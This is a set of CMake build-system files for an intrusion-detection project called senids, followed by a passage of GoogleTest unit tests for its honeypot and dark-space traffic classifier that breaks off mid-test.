