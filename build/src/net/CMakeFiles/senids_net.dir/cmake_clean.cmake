file(REMOVE_RECURSE
  "CMakeFiles/senids_net.dir/defrag.cpp.o"
  "CMakeFiles/senids_net.dir/defrag.cpp.o.d"
  "CMakeFiles/senids_net.dir/flow.cpp.o"
  "CMakeFiles/senids_net.dir/flow.cpp.o.d"
  "CMakeFiles/senids_net.dir/forge.cpp.o"
  "CMakeFiles/senids_net.dir/forge.cpp.o.d"
  "CMakeFiles/senids_net.dir/headers.cpp.o"
  "CMakeFiles/senids_net.dir/headers.cpp.o.d"
  "CMakeFiles/senids_net.dir/packet.cpp.o"
  "CMakeFiles/senids_net.dir/packet.cpp.o.d"
  "CMakeFiles/senids_net.dir/reassembly.cpp.o"
  "CMakeFiles/senids_net.dir/reassembly.cpp.o.d"
  "libsenids_net.a"
  "libsenids_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
