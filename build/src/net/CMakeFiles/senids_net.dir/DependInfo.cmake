
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/net/defrag.cpp" "src/net/CMakeFiles/senids_net.dir/defrag.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/defrag.cpp.o.d"
  "/root/repo/src/net/flow.cpp" "src/net/CMakeFiles/senids_net.dir/flow.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/flow.cpp.o.d"
  "/root/repo/src/net/forge.cpp" "src/net/CMakeFiles/senids_net.dir/forge.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/forge.cpp.o.d"
  "/root/repo/src/net/headers.cpp" "src/net/CMakeFiles/senids_net.dir/headers.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/headers.cpp.o.d"
  "/root/repo/src/net/packet.cpp" "src/net/CMakeFiles/senids_net.dir/packet.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/packet.cpp.o.d"
  "/root/repo/src/net/reassembly.cpp" "src/net/CMakeFiles/senids_net.dir/reassembly.cpp.o" "gcc" "src/net/CMakeFiles/senids_net.dir/reassembly.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/senids_pcap.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
