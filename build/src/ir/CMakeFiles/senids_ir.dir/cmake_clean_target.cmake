file(REMOVE_RECURSE
  "libsenids_ir.a"
)
