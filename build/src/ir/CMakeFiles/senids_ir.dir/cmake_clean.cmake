file(REMOVE_RECURSE
  "CMakeFiles/senids_ir.dir/deadcode.cpp.o"
  "CMakeFiles/senids_ir.dir/deadcode.cpp.o.d"
  "CMakeFiles/senids_ir.dir/expr.cpp.o"
  "CMakeFiles/senids_ir.dir/expr.cpp.o.d"
  "CMakeFiles/senids_ir.dir/lifter.cpp.o"
  "CMakeFiles/senids_ir.dir/lifter.cpp.o.d"
  "libsenids_ir.a"
  "libsenids_ir.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_ir.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
