
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/ir/deadcode.cpp" "src/ir/CMakeFiles/senids_ir.dir/deadcode.cpp.o" "gcc" "src/ir/CMakeFiles/senids_ir.dir/deadcode.cpp.o.d"
  "/root/repo/src/ir/expr.cpp" "src/ir/CMakeFiles/senids_ir.dir/expr.cpp.o" "gcc" "src/ir/CMakeFiles/senids_ir.dir/expr.cpp.o.d"
  "/root/repo/src/ir/lifter.cpp" "src/ir/CMakeFiles/senids_ir.dir/lifter.cpp.o" "gcc" "src/ir/CMakeFiles/senids_ir.dir/lifter.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/senids_x86.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
