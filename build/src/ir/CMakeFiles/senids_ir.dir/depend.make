# Empty dependencies file for senids_ir.
# This may be replaced when dependencies are built.
