# Empty dependencies file for senids_anomaly.
# This may be replaced when dependencies are built.
