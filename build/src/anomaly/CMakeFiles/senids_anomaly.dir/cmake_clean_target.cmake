file(REMOVE_RECURSE
  "libsenids_anomaly.a"
)
