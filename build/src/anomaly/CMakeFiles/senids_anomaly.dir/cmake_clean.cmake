file(REMOVE_RECURSE
  "CMakeFiles/senids_anomaly.dir/payl.cpp.o"
  "CMakeFiles/senids_anomaly.dir/payl.cpp.o.d"
  "libsenids_anomaly.a"
  "libsenids_anomaly.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_anomaly.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
