# Empty dependencies file for senids_core.
# This may be replaced when dependencies are built.
