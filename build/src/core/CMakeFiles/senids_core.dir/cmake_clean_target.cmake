file(REMOVE_RECURSE
  "libsenids_core.a"
)
