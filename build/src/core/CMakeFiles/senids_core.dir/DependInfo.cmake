
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/engine.cpp" "src/core/CMakeFiles/senids_core.dir/engine.cpp.o" "gcc" "src/core/CMakeFiles/senids_core.dir/engine.cpp.o.d"
  "/root/repo/src/core/session.cpp" "src/core/CMakeFiles/senids_core.dir/session.cpp.o" "gcc" "src/core/CMakeFiles/senids_core.dir/session.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/senids_pcap.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/senids_net.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/senids_x86.dir/DependInfo.cmake"
  "/root/repo/build/src/ir/CMakeFiles/senids_ir.dir/DependInfo.cmake"
  "/root/repo/build/src/semantic/CMakeFiles/senids_semantic.dir/DependInfo.cmake"
  "/root/repo/build/src/extract/CMakeFiles/senids_extract.dir/DependInfo.cmake"
  "/root/repo/build/src/classify/CMakeFiles/senids_classify.dir/DependInfo.cmake"
  "/root/repo/build/src/emu/CMakeFiles/senids_emu.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
