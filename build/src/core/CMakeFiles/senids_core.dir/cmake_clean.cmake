file(REMOVE_RECURSE
  "CMakeFiles/senids_core.dir/engine.cpp.o"
  "CMakeFiles/senids_core.dir/engine.cpp.o.d"
  "CMakeFiles/senids_core.dir/session.cpp.o"
  "CMakeFiles/senids_core.dir/session.cpp.o.d"
  "libsenids_core.a"
  "libsenids_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
