file(REMOVE_RECURSE
  "CMakeFiles/senids_pcap.dir/pcap.cpp.o"
  "CMakeFiles/senids_pcap.dir/pcap.cpp.o.d"
  "libsenids_pcap.a"
  "libsenids_pcap.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_pcap.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
