# Empty compiler generated dependencies file for senids_pcap.
# This may be replaced when dependencies are built.
