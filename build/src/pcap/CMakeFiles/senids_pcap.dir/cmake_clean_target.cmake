file(REMOVE_RECURSE
  "libsenids_pcap.a"
)
