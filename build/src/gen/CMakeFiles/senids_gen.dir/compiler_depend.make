# Empty compiler generated dependencies file for senids_gen.
# This may be replaced when dependencies are built.
