
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/gen/benign.cpp" "src/gen/CMakeFiles/senids_gen.dir/benign.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/benign.cpp.o.d"
  "/root/repo/src/gen/codered.cpp" "src/gen/CMakeFiles/senids_gen.dir/codered.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/codered.cpp.o.d"
  "/root/repo/src/gen/emitter.cpp" "src/gen/CMakeFiles/senids_gen.dir/emitter.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/emitter.cpp.o.d"
  "/root/repo/src/gen/mailworm.cpp" "src/gen/CMakeFiles/senids_gen.dir/mailworm.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/mailworm.cpp.o.d"
  "/root/repo/src/gen/poly.cpp" "src/gen/CMakeFiles/senids_gen.dir/poly.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/poly.cpp.o.d"
  "/root/repo/src/gen/shellcode.cpp" "src/gen/CMakeFiles/senids_gen.dir/shellcode.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/shellcode.cpp.o.d"
  "/root/repo/src/gen/traffic.cpp" "src/gen/CMakeFiles/senids_gen.dir/traffic.cpp.o" "gcc" "src/gen/CMakeFiles/senids_gen.dir/traffic.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/senids_net.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/senids_pcap.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/senids_x86.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
