file(REMOVE_RECURSE
  "libsenids_gen.a"
)
