file(REMOVE_RECURSE
  "CMakeFiles/senids_gen.dir/benign.cpp.o"
  "CMakeFiles/senids_gen.dir/benign.cpp.o.d"
  "CMakeFiles/senids_gen.dir/codered.cpp.o"
  "CMakeFiles/senids_gen.dir/codered.cpp.o.d"
  "CMakeFiles/senids_gen.dir/emitter.cpp.o"
  "CMakeFiles/senids_gen.dir/emitter.cpp.o.d"
  "CMakeFiles/senids_gen.dir/mailworm.cpp.o"
  "CMakeFiles/senids_gen.dir/mailworm.cpp.o.d"
  "CMakeFiles/senids_gen.dir/poly.cpp.o"
  "CMakeFiles/senids_gen.dir/poly.cpp.o.d"
  "CMakeFiles/senids_gen.dir/shellcode.cpp.o"
  "CMakeFiles/senids_gen.dir/shellcode.cpp.o.d"
  "CMakeFiles/senids_gen.dir/traffic.cpp.o"
  "CMakeFiles/senids_gen.dir/traffic.cpp.o.d"
  "libsenids_gen.a"
  "libsenids_gen.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_gen.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
