# Empty dependencies file for senids_util.
# This may be replaced when dependencies are built.
