file(REMOVE_RECURSE
  "libsenids_util.a"
)
