file(REMOVE_RECURSE
  "CMakeFiles/senids_util.dir/bytes.cpp.o"
  "CMakeFiles/senids_util.dir/bytes.cpp.o.d"
  "CMakeFiles/senids_util.dir/hexdump.cpp.o"
  "CMakeFiles/senids_util.dir/hexdump.cpp.o.d"
  "CMakeFiles/senids_util.dir/log.cpp.o"
  "CMakeFiles/senids_util.dir/log.cpp.o.d"
  "CMakeFiles/senids_util.dir/prng.cpp.o"
  "CMakeFiles/senids_util.dir/prng.cpp.o.d"
  "CMakeFiles/senids_util.dir/thread_pool.cpp.o"
  "CMakeFiles/senids_util.dir/thread_pool.cpp.o.d"
  "libsenids_util.a"
  "libsenids_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
