# Empty dependencies file for senids_extract.
# This may be replaced when dependencies are built.
