file(REMOVE_RECURSE
  "CMakeFiles/senids_extract.dir/base64.cpp.o"
  "CMakeFiles/senids_extract.dir/base64.cpp.o.d"
  "CMakeFiles/senids_extract.dir/extractor.cpp.o"
  "CMakeFiles/senids_extract.dir/extractor.cpp.o.d"
  "CMakeFiles/senids_extract.dir/heuristics.cpp.o"
  "CMakeFiles/senids_extract.dir/heuristics.cpp.o.d"
  "CMakeFiles/senids_extract.dir/http.cpp.o"
  "CMakeFiles/senids_extract.dir/http.cpp.o.d"
  "CMakeFiles/senids_extract.dir/unicode.cpp.o"
  "CMakeFiles/senids_extract.dir/unicode.cpp.o.d"
  "libsenids_extract.a"
  "libsenids_extract.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_extract.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
