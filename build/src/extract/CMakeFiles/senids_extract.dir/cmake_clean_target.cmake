file(REMOVE_RECURSE
  "libsenids_extract.a"
)
