
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/extract/base64.cpp" "src/extract/CMakeFiles/senids_extract.dir/base64.cpp.o" "gcc" "src/extract/CMakeFiles/senids_extract.dir/base64.cpp.o.d"
  "/root/repo/src/extract/extractor.cpp" "src/extract/CMakeFiles/senids_extract.dir/extractor.cpp.o" "gcc" "src/extract/CMakeFiles/senids_extract.dir/extractor.cpp.o.d"
  "/root/repo/src/extract/heuristics.cpp" "src/extract/CMakeFiles/senids_extract.dir/heuristics.cpp.o" "gcc" "src/extract/CMakeFiles/senids_extract.dir/heuristics.cpp.o.d"
  "/root/repo/src/extract/http.cpp" "src/extract/CMakeFiles/senids_extract.dir/http.cpp.o" "gcc" "src/extract/CMakeFiles/senids_extract.dir/http.cpp.o.d"
  "/root/repo/src/extract/unicode.cpp" "src/extract/CMakeFiles/senids_extract.dir/unicode.cpp.o" "gcc" "src/extract/CMakeFiles/senids_extract.dir/unicode.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
