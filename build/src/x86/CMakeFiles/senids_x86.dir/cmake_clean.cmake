file(REMOVE_RECURSE
  "CMakeFiles/senids_x86.dir/decoder.cpp.o"
  "CMakeFiles/senids_x86.dir/decoder.cpp.o.d"
  "CMakeFiles/senids_x86.dir/defuse.cpp.o"
  "CMakeFiles/senids_x86.dir/defuse.cpp.o.d"
  "CMakeFiles/senids_x86.dir/format.cpp.o"
  "CMakeFiles/senids_x86.dir/format.cpp.o.d"
  "CMakeFiles/senids_x86.dir/reg.cpp.o"
  "CMakeFiles/senids_x86.dir/reg.cpp.o.d"
  "CMakeFiles/senids_x86.dir/scan.cpp.o"
  "CMakeFiles/senids_x86.dir/scan.cpp.o.d"
  "libsenids_x86.a"
  "libsenids_x86.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_x86.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
