
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/x86/decoder.cpp" "src/x86/CMakeFiles/senids_x86.dir/decoder.cpp.o" "gcc" "src/x86/CMakeFiles/senids_x86.dir/decoder.cpp.o.d"
  "/root/repo/src/x86/defuse.cpp" "src/x86/CMakeFiles/senids_x86.dir/defuse.cpp.o" "gcc" "src/x86/CMakeFiles/senids_x86.dir/defuse.cpp.o.d"
  "/root/repo/src/x86/format.cpp" "src/x86/CMakeFiles/senids_x86.dir/format.cpp.o" "gcc" "src/x86/CMakeFiles/senids_x86.dir/format.cpp.o.d"
  "/root/repo/src/x86/reg.cpp" "src/x86/CMakeFiles/senids_x86.dir/reg.cpp.o" "gcc" "src/x86/CMakeFiles/senids_x86.dir/reg.cpp.o.d"
  "/root/repo/src/x86/scan.cpp" "src/x86/CMakeFiles/senids_x86.dir/scan.cpp.o" "gcc" "src/x86/CMakeFiles/senids_x86.dir/scan.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
