file(REMOVE_RECURSE
  "libsenids_x86.a"
)
