# Empty dependencies file for senids_x86.
# This may be replaced when dependencies are built.
