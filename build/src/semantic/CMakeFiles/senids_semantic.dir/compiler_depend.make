# Empty compiler generated dependencies file for senids_semantic.
# This may be replaced when dependencies are built.
