
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/semantic/analyzer.cpp" "src/semantic/CMakeFiles/senids_semantic.dir/analyzer.cpp.o" "gcc" "src/semantic/CMakeFiles/senids_semantic.dir/analyzer.cpp.o.d"
  "/root/repo/src/semantic/dsl.cpp" "src/semantic/CMakeFiles/senids_semantic.dir/dsl.cpp.o" "gcc" "src/semantic/CMakeFiles/senids_semantic.dir/dsl.cpp.o.d"
  "/root/repo/src/semantic/library.cpp" "src/semantic/CMakeFiles/senids_semantic.dir/library.cpp.o" "gcc" "src/semantic/CMakeFiles/senids_semantic.dir/library.cpp.o.d"
  "/root/repo/src/semantic/pattern.cpp" "src/semantic/CMakeFiles/senids_semantic.dir/pattern.cpp.o" "gcc" "src/semantic/CMakeFiles/senids_semantic.dir/pattern.cpp.o.d"
  "/root/repo/src/semantic/template.cpp" "src/semantic/CMakeFiles/senids_semantic.dir/template.cpp.o" "gcc" "src/semantic/CMakeFiles/senids_semantic.dir/template.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/senids_x86.dir/DependInfo.cmake"
  "/root/repo/build/src/ir/CMakeFiles/senids_ir.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
