file(REMOVE_RECURSE
  "libsenids_semantic.a"
)
