file(REMOVE_RECURSE
  "CMakeFiles/senids_semantic.dir/analyzer.cpp.o"
  "CMakeFiles/senids_semantic.dir/analyzer.cpp.o.d"
  "CMakeFiles/senids_semantic.dir/dsl.cpp.o"
  "CMakeFiles/senids_semantic.dir/dsl.cpp.o.d"
  "CMakeFiles/senids_semantic.dir/library.cpp.o"
  "CMakeFiles/senids_semantic.dir/library.cpp.o.d"
  "CMakeFiles/senids_semantic.dir/pattern.cpp.o"
  "CMakeFiles/senids_semantic.dir/pattern.cpp.o.d"
  "CMakeFiles/senids_semantic.dir/template.cpp.o"
  "CMakeFiles/senids_semantic.dir/template.cpp.o.d"
  "libsenids_semantic.a"
  "libsenids_semantic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_semantic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
