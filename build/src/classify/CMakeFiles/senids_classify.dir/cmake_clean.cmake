file(REMOVE_RECURSE
  "CMakeFiles/senids_classify.dir/classifier.cpp.o"
  "CMakeFiles/senids_classify.dir/classifier.cpp.o.d"
  "libsenids_classify.a"
  "libsenids_classify.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_classify.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
