file(REMOVE_RECURSE
  "libsenids_classify.a"
)
