# Empty compiler generated dependencies file for senids_classify.
# This may be replaced when dependencies are built.
