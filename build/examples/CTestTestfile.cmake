# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test([=[example_quickstart]=] "/root/repo/build/examples/quickstart")
set_tests_properties([=[example_quickstart]=] PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;20;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test([=[example_trace_analysis]=] "/root/repo/build/examples/trace_analysis")
set_tests_properties([=[example_trace_analysis]=] PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;21;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test([=[example_polymorphic_lab]=] "/root/repo/build/examples/polymorphic_lab" "7")
set_tests_properties([=[example_polymorphic_lab]=] PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;22;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test([=[example_template_authoring]=] "/root/repo/build/examples/template_authoring")
set_tests_properties([=[example_template_authoring]=] PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;23;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test([=[example_live_pipeline]=] "/root/repo/build/examples/live_pipeline")
set_tests_properties([=[example_live_pipeline]=] PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;24;add_test;/root/repo/examples/CMakeLists.txt;0;")
