file(REMOVE_RECURSE
  "CMakeFiles/template_authoring.dir/template_authoring.cpp.o"
  "CMakeFiles/template_authoring.dir/template_authoring.cpp.o.d"
  "template_authoring"
  "template_authoring.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/template_authoring.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
