# Empty dependencies file for template_authoring.
# This may be replaced when dependencies are built.
