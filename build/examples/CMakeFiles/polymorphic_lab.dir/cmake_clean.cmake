file(REMOVE_RECURSE
  "CMakeFiles/polymorphic_lab.dir/polymorphic_lab.cpp.o"
  "CMakeFiles/polymorphic_lab.dir/polymorphic_lab.cpp.o.d"
  "polymorphic_lab"
  "polymorphic_lab.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/polymorphic_lab.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
