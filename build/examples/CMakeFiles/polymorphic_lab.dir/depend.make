# Empty dependencies file for polymorphic_lab.
# This may be replaced when dependencies are built.
