#include <gtest/gtest.h>

#include <utility>

#include "classify/classifier.hpp"
#include "net/forge.hpp"

namespace senids::classify {
namespace {

using net::Endpoint;
using net::Ipv4Addr;

net::ParsedPacket packet(Ipv4Addr src, Ipv4Addr dst, std::uint16_t dport = 80) {
  auto frame = net::forge_tcp(Endpoint{src, 40000}, Endpoint{dst, dport}, 1,
                              util::as_bytes("x"));
  return *net::parse_frame(frame);
}

const Ipv4Addr kAttacker = Ipv4Addr::from_octets(192, 0, 2, 66);
const Ipv4Addr kClient = Ipv4Addr::from_octets(198, 51, 100, 10);
const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);

TEST(Prefix, ContainsMath) {
  Prefix p{Ipv4Addr::from_octets(10, 0, 64, 0), 18};
  EXPECT_TRUE(p.contains(Ipv4Addr::from_octets(10, 0, 64, 1)));
  EXPECT_TRUE(p.contains(Ipv4Addr::from_octets(10, 0, 127, 255)));
  EXPECT_FALSE(p.contains(Ipv4Addr::from_octets(10, 0, 128, 0)));
  EXPECT_FALSE(p.contains(Ipv4Addr::from_octets(10, 1, 64, 0)));
}

TEST(Prefix, HostRouteAndDefault) {
  Prefix host{kHoneypot, 32};
  EXPECT_TRUE(host.contains(kHoneypot));
  EXPECT_FALSE(host.contains(kServer));
  Prefix all{Ipv4Addr{0}, 0};
  EXPECT_TRUE(all.contains(kAttacker));
}

TEST(Honeypot, TouchingDecoyTaintsSource) {
  TrafficClassifier c;
  c.honeypots().add_decoy(kHoneypot);
  // First packet to the honeypot is itself analyzed (source now tainted).
  EXPECT_EQ(c.observe(packet(kAttacker, kHoneypot)), Verdict::kAnalyze);
  // Subsequent traffic from the same host anywhere is analyzed.
  EXPECT_EQ(c.observe(packet(kAttacker, kServer)), Verdict::kAnalyze);
  // Unrelated hosts stay clean.
  EXPECT_EQ(c.observe(packet(kClient, kServer)), Verdict::kIgnore);
  EXPECT_TRUE(c.is_tainted(kAttacker));
  EXPECT_FALSE(c.is_tainted(kClient));
}

TEST(Honeypot, DisabledSchemeIgnoresDecoys) {
  ClassifierOptions opts;
  opts.use_honeypot = false;
  TrafficClassifier c(opts);
  c.honeypots().add_decoy(kHoneypot);
  EXPECT_EQ(c.observe(packet(kAttacker, kHoneypot)), Verdict::kIgnore);
}

TEST(DarkSpace, ThresholdCrossingTaints) {
  ClassifierOptions opts;
  opts.dark_space_threshold = 3;
  TrafficClassifier c(opts);
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});

  // Two probes: below threshold, still ignored.
  EXPECT_EQ(c.observe(packet(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 1))),
            Verdict::kIgnore);
  EXPECT_EQ(c.observe(packet(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 2))),
            Verdict::kIgnore);
  EXPECT_FALSE(c.is_tainted(kAttacker));
  // Third probe reaches t=3: tainted from here on.
  EXPECT_EQ(c.observe(packet(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 3))),
            Verdict::kAnalyze);
  EXPECT_TRUE(c.is_tainted(kAttacker));
  // And now even traffic to production hosts is analyzed.
  EXPECT_EQ(c.observe(packet(kAttacker, kServer)), Verdict::kAnalyze);
}

TEST(DarkSpace, CountsPerSource) {
  ClassifierOptions opts;
  opts.dark_space_threshold = 5;
  TrafficClassifier c(opts);
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  for (int i = 0; i < 4; ++i) {
    c.observe(packet(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 1)));
    c.observe(packet(kClient, kServer));
  }
  EXPECT_EQ(c.dark_space().count(kAttacker), 4u);
  EXPECT_EQ(c.dark_space().count(kClient), 0u);
  EXPECT_FALSE(c.is_tainted(kAttacker));
}

TEST(DarkSpace, TrafficToUsedSpaceNeverCounts) {
  TrafficClassifier c;
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(c.observe(packet(kAttacker, kServer)), Verdict::kIgnore);
  }
  EXPECT_EQ(c.dark_space().count(kAttacker), 0u);
}

TEST(DarkSpace, CounterTableCapEvictsLeastRecentlyProbed) {
  DarkSpaceCounters counters(/*max_sources=*/2);
  EXPECT_EQ(counters.increment(1), 1u);
  EXPECT_EQ(counters.increment(2), 1u);
  EXPECT_EQ(counters.increment(1), 2u);  // refreshes 1: now 2 is coldest
  EXPECT_EQ(counters.evictions(), 0u);
  // A third source exceeds the cap; the coldest (2) is evicted.
  EXPECT_EQ(counters.increment(3), 1u);
  EXPECT_EQ(counters.size(), 2u);
  EXPECT_EQ(counters.evictions(), 1u);
  EXPECT_EQ(counters.count(2), 0u);
  EXPECT_EQ(counters.count(1), 2u);
  // The evicted source starts over from zero if it probes again.
  EXPECT_EQ(counters.increment(2), 1u);
  EXPECT_EQ(counters.evictions(), 2u);
}

TEST(DarkSpace, UnboundedTableNeverEvicts) {
  DarkSpaceCounters counters(/*max_sources=*/0);
  for (std::uint32_t src = 0; src < 1000; ++src) counters.increment(src);
  EXPECT_EQ(counters.size(), 1000u);
  EXPECT_EQ(counters.evictions(), 0u);
}

TEST(DarkSpace, SourceCapDelaysTaintUnderSpoofedFlood) {
  // An attacker cycling more spoofed sources than the cap keeps evicting
  // its own counters: no source accumulates enough probes to taint, but
  // the table stays bounded — the documented trade.
  ClassifierOptions opts;
  opts.dark_space_threshold = 3;
  opts.dark_space_max_sources = 4;
  TrafficClassifier c(opts);
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  for (int round = 0; round < 2; ++round) {
    for (std::uint8_t s = 1; s <= 16; ++s) {
      c.observe(packet(Ipv4Addr::from_octets(203, 0, 113, s),
                       Ipv4Addr::from_octets(10, 0, 200, 1)));
    }
  }
